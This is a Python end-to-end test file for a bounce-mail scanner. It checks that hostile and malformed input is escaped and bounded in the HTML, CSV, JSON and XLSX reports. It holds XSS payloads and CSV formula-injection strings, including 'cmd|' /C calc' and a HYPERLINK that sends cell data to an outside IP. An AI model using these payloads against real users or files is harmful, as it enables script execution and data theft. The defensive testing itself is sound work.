#!/usr/bin/env python3
"""Hostile and broken input, end to end through the binary (issue 7).

Every case writes its input here (nothing large is committed), runs one
command as a child process and asserts a clear outcome, a wall time under a
generous hang guard and a peak RSS (wait4) under a bound; where a folder is
scanned, a good bounce beside the bad input must still come out: the scan goes
on with the rest.  Under a sanitizer build (ASan doubles memory and slows
everything) the bounds are scaled, not dropped.

Cases: script and markup in every field (no input-derived markup in the HTML),
CSV formula payloads, NUL bytes, invalid UTF-8 and lying charset labels, a
1 MB header line, 10,000 recipients in one DSN, 200 levels of nested
multiparts and of message/rfc822, broken base64 and quoted-printable, an mbox
cut in the middle, empty files, symlink loops and links out of the tree, FIFOs
and device files, unreadable files and folders; and every file bouncescan writes
is its owner's only, whatever the umask.
"""
import base64
import csv
import glob
import html.parser
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import traceback
import xml.dom.minidom
import xml.parsers.expat
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bsutil import BIN, dsn, mbox, plain_mail, write  # noqa: E402

WALL_S = 20          # hang guard for one command, not a benchmark
RSS_MB = 200         # peak resident memory of one command (plain build)


def sanitized():
    """Is the binary built with AddressSanitizer (build-san, build-fuzz)?"""
    try:
        with open(BIN, "rb") as fh:
            data = fh.read()
    except OSError:
        return False
    return b"libasan" in data or b"__asan_init" in data


ASAN = sanitized()
TIME_SCALE = 4 if ASAN else 1
# ASan: shadow memory, redzones and a 256 MB quarantine of freed blocks
RSS_LIMIT_MB = RSS_MB * 3 + 512 if ASAN else RSS_MB
AS_ROOT = os.geteuid() == 0
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


class Failure(Exception):
    pass


def check(cond, msg):
    if not cond:
        raise Failure(msg)


class Result:
    def __init__(self, rc, out, err, secs, rss_mb):
        self.rc, self.out, self.err, self.secs, self.rss_mb = rc, out, err, secs, rss_mb

    def text(self):
        return self.out.decode("utf-8", "replace")

    def records(self):
        """dump's JSON Lines: stdout must be valid UTF-8 and every line JSON"""
        try:
            text = self.out.decode("utf-8")
        except UnicodeDecodeError as e:
            raise Failure("dump output is not valid UTF-8: %s" % e)
        recs = []
        for line in text.splitlines():
            if line.strip():
                try:
                    recs.append(json.loads(line))
                except ValueError as e:
                    raise Failure("dump line is not JSON (%s): %r" % (e, line[:200]))
        return [r for r in recs if "undecodable" not in r], [r["undecodable"] for r in recs
                                                             if "undecodable" in r]


# A child's peak RSS (ru_maxrss) starts at its parent's resident size at
# fork() and survives exec(): forked from this test, which holds the inputs
# it wrote, bouncescan would be charged for them.  So a small launcher
# process forks it and reports wait4()'s figures (it charges the command with
# the launcher's own few MB only).
LAUNCHER = r"""
import os, resource, signal, sys
pid = os.fork()
if pid == 0:
    try:
        mask = os.environ.pop("BS_TEST_UMASK", "")
        if mask:
            os.umask(int(mask, 8))
        fsize = int(os.environ.pop("BS_TEST_FSIZE", "0"))
        if fsize > 0:
            # writes past fsize bytes fail with EFBIG instead of killing
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
        os.execvp(sys.argv[2], sys.argv[2:])
    finally:
        os._exit(127)
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as fh:
    fh.write("%d %d" % (os.waitstatus_to_exitcode(status), usage.ru_maxrss))
"""


def bounded(args, wall_s=WALL_S, rss_mb=RSS_LIMIT_MB, stdin=None, as_nobody=False, cwd=None,
            fsize=0, umask=None):
    """Run bouncescan ARGS; assert the wall time and peak RSS bounds (with
    fsize, no file it writes can grow past fsize bytes: RLIMIT_FSIZE; with
    umask, it runs under that umask)."""
    argv = ([*NOBODY] if as_nobody and AS_ROOT else []) + [BIN, *args]
    limit = wall_s * TIME_SCALE
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err, \
            tempfile.TemporaryFile() as inp, tempfile.NamedTemporaryFile("r") as figures:
        if stdin is not None:
            inp.write(stdin)
            inp.seek(0)
        t0 = time.monotonic()
        # a GLib critical (a broken invariant) ends the run: it fails the case
        env = dict(os.environ, G_DEBUG="fatal-criticals,gc-friendly", BS_TEST_FSIZE=str(fsize),
                   BS_TEST_UMASK="" if umask is None else "%o" % umask)
        p = subprocess.Popen([sys.executable, "-c", LAUNCHER, figures.name, *argv],
                             stdin=inp if stdin is not None else subprocess.DEVNULL,
                             stdout=out, stderr=err, cwd=cwd, start_new_session=True, env=env)
        killed = False
        try:
            p.wait(timeout=limit + 10)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, 9)
            killed = True
            p.wait()
        secs = time.monotonic() - t0
        fig = figures.read().split()
        rc, rss_kb = (int(fig[0]), int(fig[1])) if len(fig) == 2 else (-9, 0)
        out.seek(0)
        err.seek(0)
        res = Result(rc, out.read(), err.read().decode("utf-8", "replace"), secs, rss_kb / 1024.0)
    what = "bouncescan " + " ".join(a if len(a) < 60 else a[:57] + "..." for a in args)
    check(not killed and secs <= limit, "%s: still running after %.1f s (hang guard %d s)"
          % (what, secs, limit))
    check(res.rss_mb <= rss_mb, "%s: peak RSS %.0f MB over the bound %d MB"
          % (what, res.rss_mb, rss_mb))
    check(res.rc >= 0, "%s: killed by signal %d\n%s" % (what, -res.rc, res.err[-3000:]))
    check(res.rc != 86, "%s: sanitizer finding\n%s" % (what, res.err[-6000:]))
    MEASURED.append((what, secs, res.rss_mb))
    return res


MEASURED = []


def tree_state(top):
    """name, type and mode, size, mtime and bytes of everything under top
    (links not followed): the read-only promise, for hostile trees too"""
    import hashlib
    state = {}
    for root, dirs, files in os.walk(top):
        for n in dirs + files:
            p = os.path.join(root, n)
            st = os.lstat(p)
            digest = None
            if stat.S_ISREG(st.st_mode) and st.st_size < 1 << 24:
                try:
                    with open(p, "rb") as fh:
                        digest = hashlib.sha256(fh.read()).hexdigest()
                except OSError:
                    digest = "unreadable"
            elif stat.S_ISLNK(st.st_mode):
                digest = os.readlink(p)
            state[os.path.relpath(p, top)] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
    return state


def unchanged(top, before, what):
    after = tree_state(top)
    diff = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    check(not diff, "%s changed the scanned tree: %s" % (what, diff[:10]))


# ---- inputs ---------------------------------------------------------------

def report(fields=None, nl="\n", encoding="latin-1"):
    """An RFC 3464 bounce with every field settable; returns bytes (str
    values, raw bytes through latin-1 by default)."""
    f = {
        "from": "Mail Delivery System <MAILER-DAEMON@mail.example.jp>",
        "to": "taro@shop.example.jp",
        "subject": "Undelivered Mail Returned to Sender",
        "date": "Wed, 25 Nov 2026 10:00:05 +0900",
        "msgid": "<bounce-1@mail.example.jp>",
        "text": "Your message could not be delivered.",
        "reporting_mta": "dns; mail.example.jp",
        "arrival": "Wed, 25 Nov 2026 09:59:30 +0900",
        "rcpt": "rfc822; hanako@example.com",
        "orcpt": "rfc822; hanako@example.com",
        "action": "failed",
        "status": "5.1.1",
        "remote_mta": "dns; mx.example.com",
        "diag": "smtp; 550 5.1.1 <hanako@example.com>: Recipient address rejected: User unknown",
        "last": "Wed, 25 Nov 2026 10:00:04 +0900",
        "ofrom": "Taro <taro@shop.example.jp>",
        "oto": "hanako@example.com",
        "osubject": "Your order",
        "odate": "Wed, 25 Nov 2026 09:59:00 +0900",
        "omsgid": "<order-1@shop.example.jp>",
        "extra_recipients": "",
    }
    f.update(fields or {})
    text = f"""From: {f['from']}
To: {f['to']}
Subject: {f['subject']}
Date: {f['date']}
Message-ID: {f['msgid']}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="BB"

--BB
Content-Type: text/plain

{f['text']}

--BB
Content-Type: message/delivery-status

Reporting-MTA: {f['reporting_mta']}
Arrival-Date: {f['arrival']}

Final-Recipient: {f['rcpt']}
Original-Recipient: {f['orcpt']}
Action: {f['action']}
Status: {f['status']}
Remote-MTA: {f['remote_mta']}
Diagnostic-Code: {f['diag']}
Last-Attempt-Date: {f['last']}
{f['extra_recipients']}
--BB
Content-Type: text/rfc822-headers

From: {f['ofrom']}
To: {f['oto']}
Subject: {f['osubject']}
Date: {f['odate']}
Message-ID: {f['omsgid']}

--BB--
"""
    return text.replace("\n", nl).encode(encoding)


def good(tree, name="good.eml"):
    """the good bounce beside bad input: its record must come out"""
    write(os.path.join(tree, name), dsn("survivor@example.com", msgid="survivor"))


def has_survivor(recs):
    return any(r.get("recipient") == "survivor@example.com" for r in recs)


# ---- HTML: what the report's markup is ----------------------------------

class Markup(html.parser.HTMLParser):
    """tags, attributes and the text inside <script>/<style> of a page"""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []        # (tag, [(attr, value)])
        self.raw = []         # (tag, text) of script and style elements
        self._in = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        if tag in ("script", "style"):
            self._in = tag

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in:
            self.raw.append((self._in, data))


def markup_of(path):
    with open(path, "rb") as fh:
        data = fh.read()
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        raise Failure("%s is not valid UTF-8: %s" % (path, e))
    m = Markup()
    m.feed(text)
    m.close()
    return m, text


MARK = "pwn7"   # in every payload: input-derived text carries it


def payloads(tag):
    """markup payloads, each naming its field"""
    return {
        "script": f"<script>alert('{MARK}-{tag}')</script>",
        "img": f"\"><img src=x onerror=alert('{MARK}-{tag}')>",
        "svg": f"'><svg/onload=alert('{MARK}-{tag}')>",
        "iframe": f"<iframe src=javascript:alert('{MARK}-{tag}')></iframe>",
        "style": f"</style><style>body{{background:url('{MARK}-{tag}')}}</style>",
        "meta": f"<meta http-equiv=refresh content='0;url=javascript:alert(\"{MARK}-{tag}\")'>",
        "a": f"<a href=\"javascript:alert('{MARK}-{tag}')\" onclick=x>{MARK}</a>",
    }


def case_markup(tmp):
    """script and markup in every field: none of it becomes markup in the HTML"""
    tree = os.path.join(tmp, "mail")
    n = 0
    for kind, _ in payloads("x").items():
        def p(field, kind=kind):
            return payloads(field)[kind]
        fields = {
            "from": "\"%s\" <MAILER-DAEMON@mail.example.jp>" % p("bfrom").replace('"', "'"),
            "subject": "Undelivered Mail Returned to Sender " + p("bsubject"),
            "msgid": "<%s@mail.example.jp>" % p("bmsgid"),
            "text": "Your message could not be delivered. " + p("btext"),
            "reporting_mta": "dns; %s.example.jp" % p("rmta"),
            "arrival": p("arrival"),
            "rcpt": "rfc822; \"%s\"@example.com" % p("rcpt").replace('"', "'"),
            "orcpt": "rfc822; %s@example.com" % p("orcpt"),
            "action": "failed " + p("action"),
            "status": "5.7.1 " + p("status"),
            "remote_mta": "dns; " + p("remote"),
            "diag": "smtp; 550 5.7.1 %s blocked by %s" % (p("diag"), p("diag2")),
            "last": p("last"),
            "ofrom": "\"%s\" <taro@shop.example.jp>" % p("ofrom").replace('"', "'"),
            "oto": "%s@example.com" % p("oto"),
            "osubject": p("osubject"),
            "odate": p("odate"),
            "omsgid": "<%s@shop.example.jp>" % p("omsgid"),
        }
        n += 1
        write(os.path.join(tree, "%02d-%s.eml" % (n, kind)), report(fields))
        # the file name is a field too (it is the record's source)
        name = payloads("fname")[kind].replace("/", " ")[:200]
        write(os.path.join(tree, name + ".eml"), report({"rcpt": "rfc822; f%d@example.com" % n}))
    good(tree)
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "ad-hoc report of markup: exit %d: %s" % (res.rc, res.err[-2000:]))
    # a baseline page from benign input: which tags and attributes the report itself uses
    base_tree = os.path.join(tmp, "benign")
    write(os.path.join(base_tree, "a.eml"), report())
    good(base_tree)
    base_out = os.path.join(tmp, "base")
    bres = bounded([base_tree, "-o", base_out])
    check(bres.rc == 0, "baseline report: exit %d" % bres.rc)
    base, _ = markup_of(os.path.join(base_out, "report.html"))
    base_tags = {t for t, _ in base.tags}
    base_attrs = {(t, a) for t, attrs in base.tags for a, _ in attrs}

    db = os.path.join(tmp, "m.db")
    res = bounded(["scan", "--db", db, tree])
    check(res.rc in (0, 3), "scan of markup: exit %d: %s" % (res.rc, res.err[-2000:]))
    pages = [os.path.join(out, "report.html")]
    for lang in ("en", "ja"):
        page = os.path.join(tmp, "r-%s.html" % lang)
        res = bounded(["report", "--db", db, "--html", page, "--lang", lang,
                       "--title", payloads("title")["script"]])
        check(res.rc == 0, "report --lang %s: exit %d: %s" % (lang, res.rc, res.err[-2000:]))
        pages.append(page)
    for page in pages:
        m, text = markup_of(page)
        check(MARK in text, "%s: the hostile values are shown (escaped): %s not found"
              % (page, MARK))
        for tag, attrs in m.tags:
            check(tag in base_tags, "%s: tag <%s> from input (not in the report's own markup)"
                  % (page, tag))
            for a, v in attrs:
                check(not a.startswith("on"), "%s: event attribute %s=%r" % (page, a, v))
                check((tag, a) in base_attrs, "%s: attribute %s on <%s> from input"
                      % (page, a, tag))
                if a in ("href", "src", "action", "formaction", "content"):
                    check(MARK not in (v or "") and "javascript:" not in (v or "").lower(),
                          "%s: %s=%r carries input" % (page, a, v))
        for tag, data in m.raw:
            check(MARK not in data, "%s: input inside <%s>: %r" % (page, tag, data[:200]))
    # and the CSV and JSON carry the values as text
    with open(os.path.join(out, "failures.csv"), encoding="utf-8") as fh:
        check(MARK in fh.read(), "failures.csv shows the hostile values")
    # the incidents as JSON: valid, whatever the bounces' bytes
    js = os.path.join(tmp, "incidents.json")
    res = bounded(["report", "--db", db, "--json", js])
    check(res.rc == 0, "report --json: exit %d: %s" % (res.rc, res.err[-2000:]))
    with open(js, "rb") as fh:
        json.loads(fh.read().decode("utf-8"))
    res = bounded(["changes", "--db", db, "--json"])
    check(res.rc in (0, 3), "changes --json: exit %d: %s" % (res.rc, res.err[-2000:]))
    json.loads(res.out.decode("utf-8"))
    res = bounded(["changes", "--db", db, "--since", "1970-01-01", "--lang", "ja"])
    check(res.rc in (0, 3), "changes --lang ja: exit %d: %s" % (res.rc, res.err[-2000:]))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def case_csv_formulas(tmp):
    """cells that start with = + - @ TAB CR are neutralised in every CSV"""
    tree = os.path.join(tmp, "mail")
    pl = [
        "=HYPERLINK(\"http://203.0.113.9/x?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\uff1dcmd|' /C calc'!A0",
    ]
    encoded = lambda s: "=?utf-8?B?%s?=" % base64.b64encode(s.encode()).decode()  # noqa: E731
    for i, p in enumerate(pl):
        # a TAB or CR at the start after decoding of an encoded word
        lead = ["\t", "\r", ""][i % 3]
        fields = {
            "rcpt": "rfc822; %s@example.com" % ["=1+1", "+1", "-1", "@x", "=cmd", "-x"][i]
            if i not in (3, 4) else "rfc822; \"%s\"@example.com" % ["-2+3", "@SUM(1)"][i - 3],
            "diag": "smtp; " + p,
            "osubject": encoded(lead + p),
            "ofrom": encoded(lead + p) + " <taro@shop.example.jp>",
            "oto": p,
            "omsgid": "<%s@shop.example.jp>" % p,
            "odate": p,
            "status": "5.1.1",
            "remote_mta": "dns; " + p,
            "reporting_mta": "dns; " + p,
            "subject": encoded("\t" + p),
            "action": "failed",
        }
        write(os.path.join(tree, "f%d.eml" % i), report(fields, encoding="utf-8").replace(
            b"Content-Type: text/plain\n", b"Content-Type: text/plain; charset=utf-8\n"))
    good(tree)
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "ad-hoc report: exit %d: %s" % (res.rc, res.err[-2000:]))
    excel = os.path.join(tmp, "excel")
    db = os.path.join(tmp, "c.db")
    bounded(["scan", "--db", db, tree])
    res = bounded(["report", "--db", db, "--csv", excel, "--excel"])
    check(res.rc == 0, "report --excel: exit %d: %s" % (res.rc, res.err[-2000:]))
    seen_guard = 0
    for d in (out, excel):
        for name in sorted(os.listdir(d)):
            if not name.endswith(".csv"):
                continue
            with open(os.path.join(d, name), "rb") as fh:
                data = fh.read()
            try:
                text = data.decode("utf-8-sig")
            except UnicodeDecodeError as e:
                raise Failure("%s/%s is not UTF-8: %s" % (d, name, e))
            rows = list(csv.reader(io.StringIO(text, newline="")))
            for row in rows:
                for cell in row:
                    if cell.startswith("'") and cell[1:2] and cell[1] in "".join(FORMULA_STARTS):
                        seen_guard += 1
                    check(not cell.startswith(FORMULA_STARTS) or _number(cell),
                          "%s/%s: a cell a spreadsheet would run: %r" % (d, name, cell[:80]))
    check(seen_guard >= 6, "the payloads were written, guarded (%d guarded cells)" % seen_guard)
    # the workbook: its string cells need no guard, it has no formula at all
    parts = workbook_parts(os.path.join(out, "report.xlsx"))
    for name, data in parts.items():
        # cells are in the worksheets (a chart's series name their ranges in <c:f>)
        check(not name.startswith("xl/worksheets/") or not re.search(r"<(?:\w+:)?f[ >/]", data),
              "report.xlsx: a formula in %s" % name)
    check(any("=cmd|' /C calc'!A0" in d for d in parts.values()), "report.xlsx lacks the payloads")


def workbook_parts(path):
    """the XML parts of a workbook, each checked to be UTF-8 and well-formed"""
    parts = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            data = z.read(name)
            try:
                text = data.decode("utf-8")
                xml.dom.minidom.parseString(data)
            except (UnicodeDecodeError, xml.parsers.expat.ExpatError) as e:
                raise Failure("report.xlsx: %s is not well-formed UTF-8 XML: %s" % (name, e))
            parts[name] = text
    return parts


def _number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


def case_nul_bytes(tmp):
    """NUL bytes in headers, DSN fields and text: valid JSON, no C-string cut-off crash"""
    base = report({"diag": "smtp; 550 5.1.1 user\x00unknown\x00", "osubject": "Or\x00der",
                   "text": "Your message could not be delivered." + " padding" * 600 + "\x00."})
    # a NUL after the 4 KB that the kind sniffing reads: a message file
    tree = os.path.join(tmp, "mail")
    late = base.replace(b"Final-Recipient", b"X-Junk: a\x00b\nFinal-Recipient")
    write(os.path.join(tree, "late-nul.eml"), late)
    # NULs in the body, within the first 4 KB: still a message
    write(os.path.join(tree, "body-nul.eml"), report({
        "rcpt": "rfc822; body@example.com", "diag": "smtp; 550 5.1.1 user\x00unknown",
        "text": "Your message\x00 could not be delivered."}))
    # an mbox whose first message has a NUL in its body: every message read
    write(os.path.join(tree, "nul.mbox"), mbox([
        report({"rcpt": "rfc822; mb1@example.com", "text": "Not\x00delivered."}),
        report({"rcpt": "rfc822; mb2@example.com"})]))
    # a NUL in the header block: not mail (a binary file), named and skipped
    write(os.path.join(tree, "early-nul.eml"), b"From: x\x00\n" + base)
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err))
    check(has_survivor(recs), "the good bounce is read")
    got = {r["recipient"] for r in recs}
    for want in ("hanako@example.com", "body@example.com", "mb1@example.com", "mb2@example.com"):
        check(want in got, "NUL bytes in a body: %s read: %s / %s" % (want, sorted(got), res.err))
    check("early-nul.eml" in res.err, "the binary-looking file is named: %s" % res.err)
    for r in recs:
        for k, v in r.items():
            check(not isinstance(v, str) or "\x00" not in v, "NUL in %s: %r" % (k, v))
    # the same bytes on standard input (no sniffing there)
    res = bounded(["dump", "-"], stdin=b"From: x\n" + base.replace(b"Reporting-MTA", b"X:\x00\nReporting-MTA"))
    res.records()
    check(res.rc in (0, 1), "stdin with NULs: exit %d" % res.rc)


def case_bad_utf8(tmp):
    """invalid UTF-8 and lying charset labels: output is valid UTF-8 JSON"""
    tree = os.path.join(tmp, "mail")
    bad = "\xff\xfe\xc3\x28\xe2\x82\xa1\xa0\xf0\x28\x8c\xbc\xed\xa0\x80\xc0\xaf"  # latin-1 carrier
    sjis = "\x83e\x83X\x83g"        # "テスト" in Shift_JIS, raw
    cases = {
        "raw-8bit": {"diag": "smtp; 550 5.1.1 " + bad, "osubject": bad, "ofrom": bad + " <taro@shop.example.jp>"},
        "utf8-label-lies": {"osubject": "=?utf-8?B?%s?=" % base64.b64encode(b"\xff\xfe\xc3(").decode(),
                            "subject": "=?utf-8?Q?=FF=FE=C3=28?="},
        "iso2022jp-label-lies": {"osubject": "=?iso-2022-jp?B?%s?=" % base64.b64encode(b"\xe3\x81\x82\xff").decode(),
                                 "diag": "smtp; 550 5.1.1 \x1b$B\xff\xff\x1b(B"},
        "unknown-charset": {"osubject": "=?x-no-such-charset?Q?abc=FF?=",
                            "subject": "=?utf-7?B?%s?=" % base64.b64encode(b"+AGEAYgBj-+ZZZZ").decode()},
        "shiftjis-as-utf8": {"osubject": sjis, "text": sjis * 50},
        "overlong-encoded-word": {"osubject": "=?utf-8?B?" + "4oKs" * 5000 + "?=",
                                  "subject": "=?" + "u" * 300 + "?B?YWJj?="},
        "bad-encoded-word": {"osubject": "=?utf-8?X?abc?= =?utf-8?B?***?= =?utf-8?Q?=?= =?=?",
                             "subject": "=?utf-8?B?"},
    }
    for name, fields in cases.items():
        data = report(fields)
        if name == "iso2022jp-label-lies" or name == "shiftjis-as-utf8":
            data = data.replace(b"Content-Type: text/plain\n",
                                b"Content-Type: text/plain; charset=\"iso-2022-jp\"\n")
            data = data.replace(b"Content-Type: message/delivery-status\n",
                                b"Content-Type: message/delivery-status; charset=utf-16\n")
        write(os.path.join(tree, name + ".eml"), data)
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    check(has_survivor(recs), "the good bounce is read")
    got = {os.path.basename(r["source"]) for r in recs}
    for name in cases:
        check(name + ".eml" in got, "%s: its record comes out: %s" % (name, sorted(got)))
    for r in recs:
        json.dumps(r, ensure_ascii=False).encode("utf-8")   # no lone surrogates
    # and the reports are valid UTF-8 too
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "report: exit %d" % res.rc)
    for name in os.listdir(out):
        if name.endswith(".xlsx"):
            workbook_parts(os.path.join(out, name))
            continue
        with open(os.path.join(out, name), "rb") as fh:
            try:
                fh.read().decode("utf-8")
            except UnicodeDecodeError as e:
                raise Failure("%s is not UTF-8: %s" % (name, e))


def case_huge_header(tmp):
    """a 1 MB header line (unfolded Subject, Diagnostic-Code, To): read, bounded"""
    tree = os.path.join(tmp, "mail")
    mb = 1024 * 1024
    write(os.path.join(tree, "subject.eml"), report({"subject": "Undelivered " + "A" * mb}))
    write(os.path.join(tree, "diag.eml"), report({"diag": "smtp; 550 5.1.1 " + "user unknown " * (mb // 13),
                                                  "rcpt": "rfc822; d@example.com"}))
    write(os.path.join(tree, "orig.eml"), report({"oto": ", ".join("u%d@example.com" % i for i in range(mb // 16)),
                                                  "rcpt": "rfc822; o@example.com"}))
    # a 1 MB field name is no RFC 5322 header: not decoded, and named
    write(os.path.join(tree, "name.eml"), report({"rcpt": "rfc822; n@example.com"}).replace(
        b"Subject:", b"X-" + b"N" * mb + b": v\nSubject:"))
    # encoded words that never end, in every header that gets decoded
    # (an encoded-word search that went to the end of the value each time
    # took four minutes on this)
    never = "=?a?B?x" * (mb // 7)
    write(os.path.join(tree, "words.eml"), report({
        "rcpt": "rfc822; w@example.com", "subject": "Undelivered " + never, "from": never,
        "osubject": never, "ofrom": never, "oto": never}))
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    check(has_survivor(recs), "the good bounce is read")
    rc = sorted(r["recipient"] for r in recs)
    for want in ("d@example.com", "o@example.com", "w@example.com", "hanako@example.com"):
        check(want in rc, "1 MB header: %s read: %s" % (want, rc))
    check("n@example.com" in rc or any(u["source"].endswith("name.eml") for u in und),
          "1 MB field name: read, or listed as not decoded: %s" % res.err[-1000:])
    for r in recs:
        for k, v in r.items():
            check(not isinstance(v, str) or len(v.encode()) <= 4096, "field %s is bounded" % k)
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "report: exit %d" % res.rc)


def case_many_recipients(tmp):
    """10,000 recipients in one DSN: all 10,000 records, fast"""
    n = 10000
    blocks = "".join("\nFinal-Recipient: rfc822; user%05d@example.com\nAction: failed\nStatus: 5.1.1\n"
                     "Diagnostic-Code: smtp; 550 5.1.1 user%05d: User unknown\n" % (i, i)
                     for i in range(1, n))
    data = report({"extra_recipients": blocks, "rcpt": "rfc822; user00000@example.com",
                   "orcpt": "rfc822; user00000@example.com"})
    tree = os.path.join(tmp, "mail")
    write(os.path.join(tree, "many.eml"), data)
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d" % res.rc)
    got = {r["recipient"] for r in recs if r["recipient"].startswith("user")}
    check(len(got) == n, "all %d recipients: %d" % (n, len(got)))
    check(has_survivor(recs), "the good bounce is read")
    check(all(r["status"] == "5.1.1" and r["reason"] == "userunknown" for r in recs),
          "every record complete")
    # the same with one thread (no worker pool: a path of its own)
    res = bounded(["dump", "-j", "1", tree])
    one, _ = res.records()
    check(res.rc == 0 and len(one) == len(recs), "dump -j 1: exit %d, %d records: %s"
          % (res.rc, len(one), res.err[-1000:]))
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "report: exit %d: %s" % (res.rc, res.err[-2000:]))
    with open(os.path.join(out, "failures.csv"), encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    check(len(rows) == n + 2, "failures.csv has every recipient: %d rows" % (len(rows) - 1))


def sparse(path, data, size):
    """data, then a hole up to size bytes: zeros that cost no disk"""
    write(path, data)
    os.truncate(path, size)


def case_huge_files(tmp):
    """a 10 GB message file, a 300 MB mbox message, an mbox of 6 messages of
    70 MB, all but their first kilobytes zeros without a newline: each
    message is read up to 64 MB, memory stays bounded, the mbox's messages
    are all found (a line longer than the limit overran a buffer, and was
    searched again for every block read)"""
    gb = 1024 ** 3
    tree = os.path.join(tmp, "mail")
    good(tree)
    sparse(os.path.join(tree, "huge.eml"), dsn("hugefile@example.com", msgid="hf"), 10 * gb)
    sparse(os.path.join(tree, "huge.mbox"), mbox([dsn("hugembox@example.com", msgid="hm")]),
           300 * 1024 * 1024)
    many = os.path.join(tree, "many.mbox")
    with open(many, "wb") as fh:
        for i in range(6):
            fh.write(b"From MAILER-DAEMON Wed Nov 25 10:00:05 2026\n")
            fh.write(dsn("many%d@example.com" % i, msgid="many%d" % i))
            fh.seek(70 * 1024 * 1024, 1)
            fh.write(b"\n\n")
    # a message is read up to 64 MB and its parse takes a few copies of it;
    # no more than 32 MB of messages are held for the threads (one message
    # at least), so that at most three such messages are in memory at once
    # (the one read, the one parsed, its copies), whatever the threads
    big = 1024 * (3 if ASAN else 1) + (512 if ASAN else 0)
    res = bounded(["dump", tree], wall_s=90, rss_mb=big)
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-1000:]))
    got = sorted(r["recipient"] for r in recs)
    want = sorted(["survivor@example.com", "hugefile@example.com", "hugembox@example.com"]
                  + ["many%d@example.com" % i for i in range(6)])
    check(got == want, "every message found: %s" % got)
    idx = sorted(r["index"] for r in recs if r["source"] == many)
    check(idx == [1, 2, 3, 4, 5, 6], "mbox indexes: %s" % idx)
    # the scan's resume point after a dropped middle: a second scan reads
    # nothing again (offsets count the bytes let go)
    db = os.path.join(tmp, "h.db")
    res = bounded(["scan", "--db", db, many], wall_s=90, rss_mb=big)
    check(res.rc in (0, 3) and "6 failed recipients" in res.text(),
          "scan: exit %d: %s %s" % (res.rc, res.text(), res.err[-500:]))
    with open(many, "ab") as fh:
        fh.write(b"From MAILER-DAEMON Wed Nov 25 10:00:05 2026\n" + dsn("later@example.com", msgid="l"))
    res = bounded(["scan", "--db", db, many], wall_s=90, rss_mb=big)
    check(res.rc in (0, 3) and "1 messages read" in res.text() and "1 failed recipients" in res.text(),
          "a second scan reads only the new message: %s %s" % (res.text(), res.err[-500:]))


def nested_multipart(depth, inner):
    head = "From: MAILER-DAEMON@mail.example.jp\nTo: taro@shop.example.jp\n" \
           "Subject: Undelivered Mail Returned to Sender\nMIME-Version: 1.0\n"
    parts = []
    for i in range(depth):
        parts.append('Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (i, i))
    body = "".join(parts) + inner
    for i in reversed(range(depth)):
        body += "\n--b%d--\n" % i
    return (head + body).encode()


def nested_rfc822(depth, inner):
    out = ""
    for i in range(depth):
        out += "From: relay%d@example.net\nSubject: Fwd: level %d\nMIME-Version: 1.0\n" \
               "Content-Type: message/rfc822\n\n" % (i, i)
    return (out + inner).encode()


def case_deep_nesting(tmp):
    """200 levels of multipart and of message/rfc822: no crash, bounded; a bounce
    that carries such an attachment is still read"""
    tree = os.path.join(tmp, "mail")
    dsn_part = ("Content-Type: message/delivery-status\n\nReporting-MTA: dns; mail.example.jp\n\n"
                "Final-Recipient: rfc822; deep@example.com\nAction: failed\nStatus: 5.1.1\n")
    # the nested report has a boundary of its own (RFC 2046 5.1.1: an
    # enclosing boundary never appears inside an enclosed part)
    full = dsn("deep@example.com", msgid="deep").decode().replace('"BB"', '"DEEP"').replace("--BB", "--DEEP")
    write(os.path.join(tree, "multipart-200.eml"), nested_multipart(200, dsn_part))
    write(os.path.join(tree, "rfc822-200.eml"), nested_rfc822(200, full))
    write(os.path.join(tree, "multipart-5000.eml"), nested_multipart(5000, dsn_part))
    write(os.path.join(tree, "rfc822-5000.eml"), nested_rfc822(5000, full))
    # a real bounce whose third part is a 200-deep nest
    carrier = dsn("carrier@example.com", msgid="carrier").decode().replace(
